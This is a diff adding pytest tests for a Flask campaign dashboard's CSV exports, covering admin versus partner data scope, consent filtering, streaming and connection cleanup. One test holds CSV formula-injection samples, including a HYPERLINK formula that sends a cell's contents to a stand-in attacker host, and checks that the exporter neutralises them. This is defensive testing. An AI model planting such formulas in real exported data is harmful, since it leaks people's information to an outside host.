@@ -1,0 +1,219 @@
+"""CSV exports: all letters for admins, opted-in supporters for partners; formula-safe, streamed."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import timedelta
+
+import pytest
+from flask import Flask
+from sqlalchemy import select, update
+from werkzeug.test import TestResponse
+
+from tests.dashboard.helpers import (
+    ADMIN,
+    add_partner,
+    audit_actions,
+    release_leaked_sessions,  # noqa: F401  (a fixture, used below)
+    signed_in,
+)
+from tests.dashboard.letters import (
+    PRESIDENT,
+    Letter,
+    Office,
+    add_letters,
+)
+from webapp.dashboard.export import ADMIN_COLUMNS, PARTNER_COLUMNS
+from webapp.database import db, utcnow, write_transaction
+from webapp.models import Consent, DeliveryStatus, Role, SubmissionStatus, Supporter
+
+pytestmark = pytest.mark.usefixtures("release_leaked_sessions")
+INJECTIONS = {
+    "first_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "last_name": "+1",
+    "city": "-1",
+    "personal_message": "@SUM(A1:A9)",
+    "street": "\tTabbed Street",
+}
+CR_NAME = "\rCarriage"
+SENATOR = Office("official:S000001", "Sen. Alma Example", DeliveryStatus.SENT, "us_senate", "MI")
+
+
+@pytest.fixture
+def slug(app: Flask, default_campaign: str) -> str:
+    """The coalition letter with partners alpha and beta and five letters."""
+    add_partner(app, default_campaign, "alpha", "Alpha Org", "Alpha may email me.")
+    add_partner(app, default_campaign, "beta", "Beta Org", "Beta may email me.")
+    add_letters(
+        app,
+        default_campaign,
+        [
+            Letter(
+                "Alpha.Fan@Example.org",
+                first_name="Amal",
+                partner="alpha",
+                source="newsletter",
+                personal_message="From Idlib.",
+                consents=("alpha", None),
+                offices=(PRESIDENT, SENATOR),
+            ),
+            Letter("beta.fan@example.org", first_name="Bashar", state="CA", consents=("beta",)),
+            Letter("both@example.org", first_name="Dana", consents=("alpha", "beta")),
+            Letter("nobody@example.org", first_name="Nour", partner="alpha", consents=(None,)),
+            Letter("withdrawn@example.org", first_name="Wafa", consents=("alpha",)),
+        ],
+    )
+    withdrawn = select(Supporter.id).where(Supporter.email_key == "withdrawn@example.org")
+    with app.app_context():
+        session = db.session()
+        with write_transaction(session):
+            session.execute(
+                update(Consent)
+                .where(Consent.supporter_id == withdrawn.scalar_subquery())
+                .values(withdrawn_at=utcnow())
+            )
+    return default_campaign
+
+
+def _rows(response: TestResponse) -> list[list[str]]:
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
+
+
+def test_admin_csv_has_every_letter_with_personal_data(app: Flask, slug: str) -> None:
+    admin = signed_in(app, ADMIN)
+    response = admin.get(f"/dashboard/campaigns/{slug}/export.csv")
+    assert response.mimetype == "text/csv"
+    assert response.headers["Cache-Control"] == "no-store"
+    assert response.headers["Content-Disposition"] == f'attachment; filename="{slug}-letters.csv"'
+    header, *rows = _rows(response)
+    assert header == list(ADMIN_COLUMNS)
+    assert len(rows) == 5
+    by_email = {row[header.index("email")]: dict(zip(header, row, strict=True)) for row in rows}
+    assert set(by_email) == {
+        "Alpha.Fan@Example.org",
+        "beta.fan@example.org",
+        "both@example.org",
+        "nobody@example.org",
+        "withdrawn@example.org",
+    }
+    amal = by_email["Alpha.Fan@Example.org"]
+    assert (amal["first_name"], amal["last_name"], amal["street"]) == (
+        "Amal",
+        "Haddad",
+        "100 Main St",
+    )
+    assert (amal["city"], amal["state"], amal["zip"], amal["district"]) == (
+        "Dearborn",
+        "MI",
+        "48126",
+        "MI-12",
+    )
+    assert (amal["partner"], amal["source"], amal["status"]) == ("alpha", "newsletter", "confirmed")
+    assert (amal["personalised"], amal["personal_message"], amal["offices"]) == (
+        "yes",
+        "From Idlib.",
+        "2",
+    )
+    assert (amal["hidden"], amal["flagged"]) == ("False", "False")
+    assert by_email["beta.fan@example.org"]["state"] == "CA"
+    assert by_email["nobody@example.org"]["personalised"] == "no"
+    assert ("export.letters", {}) in audit_actions(app)
+
+
+def test_partner_csv_has_only_supporters_who_ticked_its_box(app: Flask, slug: str) -> None:
+    alpha = signed_in(app, "alpha@partner.example.org", Role.PARTNER, "alpha")
+    response = alpha.get(f"/dashboard/campaigns/{slug}/export.csv")
+    assert response.headers["Content-Disposition"] == f'attachment; filename="{slug}-alpha.csv"'
+    header, *rows = _rows(response)
+    assert header == list(PARTNER_COLUMNS)
+    assert "street" not in header and "personal_message" not in header
+    emails = [row[header.index("email")] for row in rows]
+    assert emails == ["Alpha.Fan@Example.org", "both@example.org"]
+    assert {row[header.index("consent_text")] for row in rows} == {"Keep me informed (alpha)"}
+    text = response.get_data(as_text=True)
+    for absent in ("100 Main St", "beta.fan", "nobody@", "withdrawn@", "From Idlib."):
+        assert absent not in text, absent
+    beta = signed_in(app, "beta@partner.example.org", Role.PARTNER, "beta")
+    header, *rows = _rows(beta.get(f"/dashboard/campaigns/{slug}/export.csv"))
+    assert [row[header.index("email")] for row in rows] == [
+        "beta.fan@example.org",
+        "both@example.org",
+    ]
+    assert ("export.partner_supporters", {}) in audit_actions(app)
+
+
+def test_cells_that_spreadsheets_would_run_are_neutralised(
+    app: Flask, default_campaign: str
+) -> None:
+    add_partner(app, default_campaign, "alpha", "Alpha Org")
+    add_letters(
+        app,
+        default_campaign,
+        [
+            Letter("=cmd@example.org", consents=("alpha",), **INJECTIONS),  # type: ignore[arg-type]
+            Letter("cr@example.org", first_name=CR_NAME, last_name="@Handle", consents=("alpha",)),
+        ],
+    )
+    admin = signed_in(app, ADMIN)
+    header, first, second = _rows(admin.get(f"/dashboard/campaigns/{default_campaign}/export.csv"))
+    row = dict(zip(header, first, strict=True))
+    for column, value in INJECTIONS.items():
+        assert row[column] == "'" + value, column
+    assert row["email"] == "'=cmd@example.org"
+    other = dict(zip(header, second, strict=True))
+    assert (other["first_name"], other["last_name"]) == ("'" + CR_NAME, "'@Handle")
+    alpha = signed_in(app, "alpha@partner.example.org", Role.PARTNER, "alpha")
+    header, first, second = _rows(alpha.get(f"/dashboard/campaigns/{default_campaign}/export.csv"))
+    row = dict(zip(header, first, strict=True))
+    assert (row["first_name"], row["last_name"], row["city"]) == (
+        "'" + INJECTIONS["first_name"],
+        "'+1",
+        "'-1",
+    )
+    assert row["email"] == "'=cmd@example.org"
+    assert dict(zip(header, second, strict=True))["first_name"] == "'" + CR_NAME
+    for line in (first, second):
+        assert not any(cell[:1] in {"=", "+", "-", "@", "\t", "\r"} for cell in line), line
+
+
+def test_export_is_streamed_row_by_row(app: Flask, default_campaign: str) -> None:
+    start = utcnow() - timedelta(days=1)
+    add_letters(
+        app,
+        default_campaign,
+        [
+            Letter(
+                f"s{n}@example.org",
+                created_at=start + timedelta(minutes=n),
+                status=SubmissionStatus.UNCONFIRMED if n % 4 == 0 else SubmissionStatus.CONFIRMED,
+                offices=(),
+            )
+            for n in range(60)
+        ],
+    )
+    admin = signed_in(app, ADMIN)
+    response = admin.get(f"/dashboard/campaigns/{default_campaign}/export.csv", buffered=False)
+    assert response.is_streamed
+    try:
+        chunks = list(response.response)
+    finally:
+        response.close()
+    assert len(chunks) == 61  # the header, then one chunk per letter
+    rows = list(csv.reader(io.StringIO(b"".join(_bytes(c) for c in chunks).decode(), newline="")))
+    assert [r[5] for r in rows[1:]] == [f"s{n}@example.org" for n in range(60)]
+    assert [r[1] for r in rows[1:5]] == ["unconfirmed", "confirmed", "confirmed", "confirmed"]
+
+
+def _bytes(chunk: object) -> bytes:
+    assert isinstance(chunk, bytes | str), chunk
+    return chunk if isinstance(chunk, bytes) else chunk.encode()
+
+
+def test_export_returns_its_database_connection(app: Flask, slug: str) -> None:
+    admin = signed_in(app, ADMIN)
+    assert len(_rows(admin.get(f"/dashboard/campaigns/{slug}/export.csv"))) == 6
+    with app.app_context():
+        # Nothing may stay checked out (on PostgreSQL: "idle in transaction") after the download.
+        assert db.engine.pool.checkedout() == 0  # type: ignore[attr-defined]
